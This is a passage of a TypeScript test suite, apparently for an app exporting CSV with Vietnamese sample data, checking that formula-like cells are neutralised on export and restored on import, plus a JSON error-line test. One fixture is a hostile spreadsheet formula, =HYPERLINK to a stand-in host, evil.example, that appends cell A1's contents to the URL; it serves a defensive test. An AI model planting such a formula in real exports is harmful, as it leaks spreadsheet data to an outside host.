  test('spreadsheet formulas in CSV exports: =HYPERLINK, +, -, @ names are exported inert and imported back exactly', () => {
    const names: Array<[string, string]> = [
      ['A', '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'],
      ['B', '+84 912 345 678'],
      ['C', '-VIP-'],
      ['D', '@SUM(1,2)'],
      ['E', "'=already quoted"], // really starts with a quote: must come back with it
      ['F', "''+two quotes"],
      ['G', "'plain quote"], // a quote before no formula character is left alone
      ['H', 'Khách = VIP'],
      ['=1+1', 'code like a formula'],
    ];
    const { csv, rows, expected } = roundTrip(names, '-VB', '@P');
    for (const cell of cellsOf(csv)) assert.doesNotMatch(cell, FORMULA_START, `an exported cell starts a formula: ${JSON.stringify(cell)}`);
    assert.match(csv, /"'=HYPERLINK\(/);
    assert.match(csv, /"''=already quoted"/);
    assert.match(csv, /,'plain quote\r\n/);
    assert.deepEqual(rows, expected);
  });

  test('spreadsheet formulas in CSV exports: any name round-trips and no cell starts a formula (property)', () => {
    const start = fc.constantFrom('=', '+', '-', '@', "'", "''", "'=", "''-", '', 'a', ' ');
    const rest = fc.string({ unit: 'grapheme', maxLength: 8 });
    const value = (validate: (v: unknown) => { ok: boolean }) =>
      fc
        .tuple(start, rest)
        .map(([a, b]) => (a + b).trim())
        .filter((v) => validate(v).ok);
    fc.assert(
      fc.property(
        value(validateVbotId),
        value(validateProjectCode),
        fc.uniqueArray(fc.tuple(value(validateTypeNo), value(validateTypeName)), { selector: ([typeNo]) => typeNo, maxLength: 10 }),
        (vbotId, projectCode, types) => {
          const { csv, rows, expected } = roundTrip(types, vbotId, projectCode);
          for (const cell of cellsOf(csv))
            assert.doesNotMatch(cell, FORMULA_START, `an exported cell starts a formula: ${JSON.stringify(cell)}`);
          assert.deepEqual(rows, expected);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('bounded JSON error locator (import)', () => {
  test('bounded JSON error locator: an import with an error JSON.parse names no position for still gets its line', () => {
    // V8: "Unexpected token 'x', …"x"… is not valid JSON" (no position).
    const text = '[\n  {"typeNo": "A", "typeName": "Ay"},\n  {"typeNo": "B", "typeName": x}\n]';
    assert.throws(
      () => JSON.parse(text),
      (e: Error) => !/position/.test(e.message),
    );
    assert.deepEqual(codesOf(parseImportFile('x.json', text)), [[3, 'badJson']]);
  });
});
